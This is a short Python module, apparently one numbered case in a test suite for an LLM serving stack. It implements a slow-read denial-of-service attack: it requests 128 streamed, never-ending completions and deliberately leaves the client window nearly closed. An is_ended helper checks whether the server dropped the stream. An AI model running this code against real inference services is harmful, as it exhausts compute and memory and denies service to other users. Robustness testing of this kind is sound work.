"""Attack 16: one request for 128 completions, streamed to a client that never reads."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from urllib.parse import urlsplit

FLAGS: tuple[str, ...] = ()
NUM_COMPLETIONS = 128
_RECEIVE_BUFFER_BYTES = 4096
_TIMEOUT_S = 300.0
_PAUSE_S = 2.0
_NUM_READS = 100_000


def open_stream(url: str, *, n: int, max_tokens: int) -> socket.socket:
    """Send a request for `n` streamed completions, over a connection that takes little at once."""
    body = {
        "messages": [{"role": "user", "content": "Count up from one, and do not stop."}],
        "stream": True,
        "n": n,
        "max_tokens": max_tokens,
        "temperature": 1.0,
        "ignore_eos": True,
        "logprobs": True,
        "top_logprobs": 20,
    }
    content = json.dumps(body).encode()
    address = urlsplit(url)
    connection = socket.socket()
    try:
        # Before it is connected: the window that the other side may fill follows from it.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BUFFER_BYTES)
        connection.settimeout(_TIMEOUT_S)
        connection.connect((address.hostname or "127.0.0.1", address.port or 80))
        head = (
            "POST /v1/chat/completions HTTP/1.1\r\n"
            f"Host: {address.netloc}\r\n"
            "Content-Type: application/json\r\n"
            f"Content-Length: {len(content)}\r\n\r\n"
        )
        connection.sendall(head.encode() + content)
    except BaseException:
        connection.close()
        raise
    return connection


def is_ended(connection: socket.socket) -> bool:
    """Read what is left, and return whether the server ended the stream before its last chunk.

    A reset that comes while the window is closed may be dropped; the next segment is answered with
    another one. So something is sent when nothing comes.
    """
    connection.settimeout(_PAUSE_S)
    rest = b""
    for _ in range(_NUM_READS):
        try:
            chunk = connection.recv(2**16)
        except TimeoutError:
            chunk = b" "
            with suppress(ConnectionError):
                connection.sendall(b"\r\n")
        except ConnectionError:
            return True
        if not chunk:
            return not rest.endswith(b"0\r\n\r\n")
        rest = (rest + chunk)[-100:]
    return False


@contextmanager
def attack(url: str, *, max_tokens: int = 1000) -> Iterator[None]:
    """Ask, read nothing while the block runs, then leave."""
    connection = open_stream(url, n=NUM_COMPLETIONS, max_tokens=max_tokens)
    try:
        yield
    finally:
        connection.close()
